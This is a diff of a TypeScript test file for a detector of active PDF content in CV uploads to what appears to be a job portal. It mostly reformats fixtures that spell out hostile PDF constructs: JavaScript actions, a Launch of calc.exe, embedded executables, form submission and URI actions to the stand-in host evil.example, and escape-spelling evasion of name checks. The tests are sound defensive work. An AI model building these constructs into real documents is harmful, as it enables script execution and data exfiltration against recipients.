@@ -95,9 +95,15 @@ const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [10 10 90
 
 /** Each active case, written out, as the tests below vary it. */
 const ACTIVE: [string, Extra][] = [
-  ['an XFA form with a script', { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [stream('', '<xdp:xdp><script>app.alert(1)</script></xdp:xdp>')] }],
+  [
+    'an XFA form with a script',
+    { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [stream('', '<xdp:xdp><script>app.alert(1)</script></xdp:xdp>')] },
+  ],
   ['additional actions on a page', { page: '/AA << /O << /S /Named /N /Print >> >>' }],
-  ['additional actions on an annotation', { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /Named /N /Print >> >> >>'] }],
+  [
+    'additional actions on an annotation',
+    { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /Named /N /Print >> >> >>'] },
+  ],
   ['additional actions on the catalogue', { catalog: '/AA << /WC << /S /Named /N /Print >> >>' }],
   [
     'an embedded file',
@@ -106,26 +112,52 @@ const ACTIVE: [string, Extra][] = [
       objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('/Type /EmbeddedFile', 'MZ')],
     },
   ],
-  ['a file attachment annotation', { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>', stream('', 'MZ')] }],
+  [
+    'a file attachment annotation',
+    {
+      page: '/Annots [4 0 R]',
+      objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>', stream('', 'MZ')],
+    },
+  ],
   ['rich media', { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'] }],
   ['a document-level script', { catalog: '/Names << /JavaScript 4 0 R >>', objects: ['<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>'] }],
   ['a link that launches a program', { page: '/Annots [4 0 R]', objects: [link('<< /S /Launch /F (calc.exe) >>')] }],
-  ['a form that submits itself', { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>'] }],
+  [
+    'a form that submits itself',
+    { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>'] },
+  ],
   ['a form that imports data', { page: '/Annots [4 0 R]', objects: [link('<< /S /ImportData /F (datos.fdf) >>')] }],
   ['a link to another file', { page: '/Annots [4 0 R]', objects: [link('<< /S /GoToR /F (otro.pdf) /D [0 /Fit] >>')] }],
   ['a link into an embedded file', { page: '/Annots [4 0 R]', objects: [link('<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>')] }],
   ['an action run on opening', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
   ['an action chained after the page to open at', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>' }],
   ['an action run on opening, by reference', { catalog: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (https://evil.example/) >>'] }],
-  ['an address opened from the outline', { catalog: '/Outlines 4 0 R', objects: ['<< /Type /Outlines /First 5 0 R /Count 1 >>', '<< /Title (a) /Parent 4 0 R /A << /S /URI /URI (https://evil.example/) >> >>'] }],
-  ['an address opened by a form field', { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A 5 0 R >>', '<< /S /URI /URI (https://evil.example/) >>'] }],
-  ['an address opened after a link', { page: '/Annots [4 0 R]', objects: [link('<< /S /URI /URI (https://a.example/) /Next << /S /URI /URI (https://evil.example/) >> >>')] }],
+  [
+    'an address opened from the outline',
+    {
+      catalog: '/Outlines 4 0 R',
+      objects: ['<< /Type /Outlines /First 5 0 R /Count 1 >>', '<< /Title (a) /Parent 4 0 R /A << /S /URI /URI (https://evil.example/) >> >>'],
+    },
+  ],
+  [
+    'an address opened by a form field',
+    { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A 5 0 R >>', '<< /S /URI /URI (https://evil.example/) >>'] },
+  ],
+  [
+    'an address opened after a link',
+    { page: '/Annots [4 0 R]', objects: [link('<< /S /URI /URI (https://a.example/) /Next << /S /URI /URI (https://evil.example/) >> >>')] },
+  ],
 ];
 
 /** Every name in the case's dictionaries with its first letter spelt #xx, as a reader decodes it. */
 const escaped = (extra: Extra): Extra => {
   const escape = (text: string) => text.replace(/\/([A-Za-z])/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`);
-  return { ...extra, catalog: escape(extra.catalog ?? ''), page: escape(extra.page ?? ''), objects: extra.objects?.map((body) => (isStream(body) ? body : escape(body))) };
+  return {
+    ...extra,
+    catalog: escape(extra.catalog ?? ''),
+    page: escape(extra.page ?? ''),
+    objects: extra.objects?.map((body) => (isStream(body) ? body : escape(body))),
+  };
 };
 
 describe('hasActivePdfContent', () => {
@@ -146,7 +178,11 @@ describe('hasActivePdfContent', () => {
   });
 
   it('refuses additional actions spelt with escapes inside an object stream', () => {
-    const file = pdf({ page: '/Annots [4 0 R]', pack: true, objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A#41 << /E << /S /Named /N /Print >> >> >>'] });
+    const file = pdf({
+      page: '/Annots [4 0 R]',
+      pack: true,
+      objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A#41 << /E << /S /Named /N /Print >> >> >>'],
+    });
     expect(hasActivePdfContent(file)).toBe(true);
   });
 
@@ -157,7 +193,11 @@ describe('hasActivePdfContent', () => {
 
   it('refuses an object stream it cannot read (another filter, a predictor, broken, past the inflate budget) or whose header hides a dictionary', () => {
     const objectStream = (dict: string, data: Buffer) =>
-      Buffer.concat([Buffer.from(`%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1')]);
+      Buffer.concat([
+        Buffer.from(`%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
+        data,
+        Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1'),
+      ]);
     // Parameters that change nothing are read; a predictor is not decoded.
     const packed = deflateSync('5 0 << /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>');
     expect(hasActivePdfContent(objectStream('/Filter [/FlateDecode] /DecodeParms [null]', packed))).toBe(false);
@@ -198,8 +238,11 @@ describe('hasActivePdfContent', () => {
     expect(hasActivePdfContent(pdf({ objects: ['<< /Type /Encoding /Differences [65 /AA /A#41] >>'] }))).toBe(false);
   });
 
-  it("accepts the CV PDF the portal itself draws", async () => {
-    const cv = await cvPdfBuffer({ cv: cvSchema.parse(validCv()), application: { titulo: 'Analista', respuestas: [{ pregunta: '¿Por qué?', respuesta: 'Porque sí' }] } });
+  it('accepts the CV PDF the portal itself draws', async () => {
+    const cv = await cvPdfBuffer({
+      cv: cvSchema.parse(validCv()),
+      application: { titulo: 'Analista', respuestas: [{ pregunta: '¿Por qué?', respuesta: 'Porque sí' }] },
+    });
     expect(cv.subarray(0, 5).toString('latin1')).toBe('%PDF-');
     expect(hasActivePdfContent(cv)).toBe(false);
   });
